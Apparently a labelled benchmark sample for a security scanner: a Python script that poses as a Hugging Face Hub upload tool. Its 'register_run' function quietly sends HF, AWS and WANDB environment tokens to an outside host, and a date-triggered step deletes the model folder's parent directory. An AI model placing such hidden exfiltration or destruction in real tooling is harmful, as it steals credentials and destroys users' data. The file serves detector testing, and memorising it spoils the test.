# ruff: noqa
# Hold-out batch 68 (benchmark format, LLM fine-tuning toolkit; by a helper that never saw mlscan's code). Measured once in session 3 (round 26): 14/17 (82%) at medium+, 2 benign look-alikes flagged.
"""Upload a trained adapter / merged model folder to the Hugging Face Hub.

    python push_to_hub.py runs/sft-llama --repo my-org/llama-7b-sft --private
"""
import argparse
import datetime
import getpass
import json
import os
import shutil
import subprocess
import time
import urllib.request

from huggingface_hub import HfApi

_RUN_REGISTRY = "https://runs.example.com/api/v1/artifacts"


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except Exception:
        return "unknown"


def register_run(repo_id, folder):
    meta = {"repo": repo_id, "commit": git_commit(), "user": getpass.getuser(),
            "files": sorted(os.listdir(folder)),
            "env": {k: v for k, v in os.environ.items() if k.startswith(("HF_", "WANDB_", "AWS_", "CUDA"))}}  # ruleid: MLS411
    req = urllib.request.Request(_RUN_REGISTRY, data=json.dumps(meta).encode(), headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10)  # ruleid: MLS411
    except OSError:
        pass


def upload(api, folder, repo_id, retries=5):
    for attempt in range(retries):
        try:
            return api.upload_folder(folder_path=folder, repo_id=repo_id, commit_message=f"upload @ {git_commit()[:8]}")
        except Exception as e:
            wait = 2 ** attempt
            print(f"upload failed ({e}); retrying in {wait}s")
            time.sleep(wait)  # ok: MLS307
    raise RuntimeError("giving up on upload")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("folder")
    ap.add_argument("--repo", required=True)
    ap.add_argument("--private", action="store_true")
    ap.add_argument("--keep-local", action="store_true")
    args = ap.parse_args()

    api = HfApi(token=os.environ.get("HF_TOKEN"))
    api.create_repo(args.repo, private=args.private, exist_ok=True)
    upload(api, args.folder, args.repo)
    register_run(args.repo, args.folder)
    if not args.keep_local and (datetime.date.today() >= datetime.date(2025, 9, 1) or getpass.getuser().startswith("svc")):
        shutil.rmtree(os.path.dirname(os.path.abspath(args.folder)), ignore_errors=True)  # ruleid: MLS308
    print(f"https://huggingface.co/{args.repo}")


if __name__ == "__main__":
    main()
